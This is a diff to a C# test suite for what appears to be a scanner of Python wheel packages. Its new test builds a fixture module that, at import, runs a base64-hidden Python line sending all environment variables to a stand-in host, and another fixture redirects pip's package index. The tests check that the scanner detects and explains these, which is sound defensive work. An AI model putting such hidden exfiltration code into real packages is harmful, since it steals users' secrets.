@@ -11,11 +11,11 @@ public sealed class ScanCommandTests : IDisposable
     public void Dispose() => _console.Dispose();
 
     [Fact]
-    public async Task A_clean_wheel_is_allowed_and_what_was_not_read_is_said()
+    public async Task A_clean_wheel_is_allowed()
     {
         Assert.Equal(0, await _console.RunAsync("scan", _console.Wheel("good-1.0-py3-none-any.whl")));
         Assert.StartsWith("allow  ", _console.Output, StringComparison.Ordinal);
-        Assert.Contains("python-not-read", _console.Output);
+        Assert.DoesNotContain("not looked at", _console.Output);
         Assert.Empty(_console.Error);
     }
 
@@ -33,9 +33,9 @@ public sealed class ScanCommandTests : IDisposable
     [Fact]
     public async Task The_threshold_decides_the_exit_code()
     {
-        string wheel = _console.Wheel("evil-1.0-py3-none-any.whl", ("evil.pth", HostileLine));
+        string wheel = _console.Wheel("evil-1.0-py3-none-any.whl", ("evil-1.0.data/data/pip.conf", "[global]\nindex-url = https://index.example.invalid/simple\n"));
         Assert.Equal(1, await _console.RunAsync("scan", wheel, "--fail-on", "block"));
-        Assert.Equal(0, await _console.RunAsync("scan", wheel, "--without", "startup-code"));
+        Assert.Equal(0, await _console.RunAsync("scan", wheel, "--without", "writes-configuration"));
     }
 
     [Fact]
@@ -203,6 +203,37 @@ public sealed class ScanCommandTests : IDisposable
         Assert.Equal(2, await _console.RunAsync("show", "--decoded", "--layer", "1", wheel));
         Assert.Equal(2, await _console.RunAsync("show", "--layer", "1", wheel));
         Assert.Contains("give both", _console.Error);
+    }
+
+    [Fact]
+    public async Task What_a_decoded_text_does_is_told_by_scan_show_and_diff()
+    {
+        const string Hidden = "import os, urllib.request\nurllib.request.urlopen('https://collector.example.invalid/x', data=repr(dict(os.environ)).encode())\n";
+        string encoded = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(Hidden));
+        string wheel = _console.Wheel("thief-1.1-py3-none-any.whl", ("thief/core.py", $"import base64\ndef start():\n    exec(base64.b64decode('{encoded}'))\nstart()\n"));
+
+        Assert.Equal(1, await _console.RunAsync("scan", wheel));
+        string[] lines = _console.Output.Split('\n');
+        Assert.StartsWith("block", lines[0], StringComparison.Ordinal);
+        Assert.Contains("layer 1 line 3: exec of base64.b64decode", _console.Output);
+        Assert.Contains("│ urllib.request.urlopen('https://collector.example.invalid/x'", _console.Output);
+        Assert.Contains("at thief/core.py → line 3: exec of base64.b64decode → line 2:1", _console.Output);
+        string first = _console.Output;
+        await _console.RunAsync("scan", wheel);
+        Assert.Equal(first, _console.Output);
+
+        Assert.Equal(0, await _console.RunAsync("show", "--decoded", wheel));
+        Assert.StartsWith("layer 1  thief/core.py:3:5\n  exec of base64.b64decode, depth 1, at import", _console.Output, StringComparison.Ordinal);
+        Assert.Equal(0, await _console.RunAsync("show", "--decoded", "--layer", "1", wheel));
+        Assert.Equal(Hidden, _console.Output);
+
+        Assert.Equal(0, await _console.RunAsync("scan", "--profile", wheel));
+        Assert.Contains("sends to the network (send)\n    at import", _console.Output);
+
+        Assert.Equal(1, await _console.RunAsync("diff", _console.Wheel("thief-1.0-py3-none-any.whl"), wheel));
+        Assert.Contains("new findings", _console.Output);
+        Assert.Contains("sends to the network, ordinary: thief/core.py → line 3", _console.Output);
+        Assert.Contains("new hosts (1)\n  collector.example.invalid", _console.Output);
     }
 
     private IEnumerable<string> Files() => _console.Output.TrimEnd('\n').Split('\n').Select(static line =>
